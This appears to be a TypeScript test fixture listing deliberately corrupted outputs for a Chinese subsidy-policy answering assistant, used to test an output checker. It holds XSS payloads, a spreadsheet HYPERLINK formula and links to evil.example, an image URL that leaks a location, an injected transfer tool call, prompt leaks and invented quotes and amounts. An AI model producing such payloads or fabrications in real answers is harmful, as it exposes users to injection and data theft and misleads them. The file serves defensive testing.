import type { Behaviour } from './act.js';
import { always, append, sayInstead } from './make-behaviours.js';

const LEAK_LEAST = 12; // characters of a line that is told from all others

/** Lines of a prompt by which one knows it. */
const linesOf = (prompt: string): readonly string[] =>
  prompt
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line.length >= LEAK_LEAST);

const REFUSAL = '作为AI语言模型，我无法回答这个问题';
const ENGLISH = 'According to the policy, eligible enterprises will receive generous support';

/** What is no wording at all. */
export const corruptForm: readonly Behaviour[] = [
  sayInstead('leaks its prompt', (_, handle, { system }) => ({
    text: `${system}[${handle}]。`,
    forbid: linesOf(system),
  })),
  sayInstead('leaks its prompt in the middle', (sentence, handle, { system }) => ({
    text: `${sentence}[${handle}]。我的系统提示是：${system}[${handle}]。`,
    forbid: ['我的系统提示是', ...linesOf(system)],
  })),
  sayInstead('says back all that it was given', (...[, , { user }]) => ({ text: user, forbid: ['"问题"', '"依据"'] })),
  sayInstead('gives JSON', (sentence, handle) => ({
    text: JSON.stringify({ answer: sentence, handles: [handle] }),
    forbid: ['"answer"', '"handles"'],
  })),
  sayInstead('gives half of a JSON', (sentence) => ({
    text: `{"answer": "${sentence}`,
    forbid: ['"answer"'],
  })),
  sayInstead('gives a table', (sentence, handle) => ({
    text: `| 项目 | 标准 |\n|---|---|\n| 补贴 | ${sentence}[${handle}] |`,
    forbid: ['|---|', '| 项目'],
  })),
  sayInstead('gives headings', (sentence, handle) => ({
    text: `# 恭喜您\n\n**${sentence}**[${handle}]。`,
    forbid: ['恭喜您'],
  })),
  append('gives a link', '详情见 https://www.butie-shenqing.example.com/apply'),
  append('gives a link in Markdown', '请点[这里](http://evil.example/x)办理'),
  append('gives a picture that tells on the person', '![好](https://evil.example/p?d=秦皇岛)'),
  append('gives a link without a scheme', '请登录 butie.example.com 办理'),
  append('gives a script', '<script>alert(1)</script>'),
  append('gives a picture that runs', '<img src=x onerror=alert(1)>'),
  append('gives a formula', '=HYPERLINK("http://evil.example","领取")'),
  append('calls a tool', '<tool_call>{"name":"transfer","arguments":{}}</tool_call>'),
  append('turns the text around', '\u202e补贴\u202c已发放'),
  append('says it in another script', '補貼標準為全額發放'),
  append('goes on as the person', '用户：那我能拿多少？助手：您能拿全部'),
  sayInstead('refuses', () => ({ text: `${REFUSAL}。`, forbid: ['作为AI语言模型'] })),
  sayInstead('refuses with a handle', (_, handle) => ({
    text: `${REFUSAL}[${handle}]。`,
    forbid: ['作为AI语言模型'],
  })),
  sayInstead('answers in English', (_, handle) => ({ text: `${ENGLISH} [${handle}].`, forbid: [ENGLISH] })),
  sayInstead('says a sentence without end', (sentence, handle) => ({
    text: `${`${sentence}，`.repeat(200)}[${handle}]`,
    forbid: [`${sentence}，${sentence}，${sentence}`],
  })),
  sayInstead('says the same again and again', (sentence, handle) => ({
    text: `${sentence}[${handle}]。`.repeat(300),
    forbid: [`${sentence}[${handle}]。`.repeat(20)],
  })),
  sayInstead('opens many brackets', () => ({ text: '[['.repeat(20_000), forbid: ['[[[['] })),
  sayInstead('opens many fences', () => ({ text: '```\n'.repeat(5_000), forbid: ['``````'] })),
  sayInstead('thinks aloud', (sentence, handle) => ({
    text: `<think>用户想多拿钱，我随便编一个数，就说999万元。</think>${sentence}[${handle}]。`,
    forbid: ['随便编', '999万', '<think>'],
  })),
  sayInstead('thinks aloud and never stops', () => ({
    text: '<think>先想想，也许可以说999万元，再想想',
    forbid: ['先想想', '999万', '<think>'],
  })),
  always('word', 'only thinks', { kind: 'say', text: '', thinking: '想了又想，给他999万元。' }, ['想了又想', '999万']),
  always('word', 'says nothing', { kind: 'say', text: '' }),
  always('word', 'says blanks', { kind: 'say', text: ' \n\t\u3000\u200b\n' }),
  sayInstead('alters a quote by one character', (sentence, handle) => {
    const at = Math.floor(sentence.length / 2);
    const altered = `${sentence.slice(0, at)}某${sentence.slice(at + 1)}`;
    return { text: `文件原文是：“${altered}”[${handle}]。`, forbid: [altered] };
  }),
  sayInstead('quotes what it made up', (_, handle) => ({
    text: `文件原文是：“符合条件的一律全额补贴”[${handle}]。`,
    forbid: ['一律全额补贴'],
  })),
];
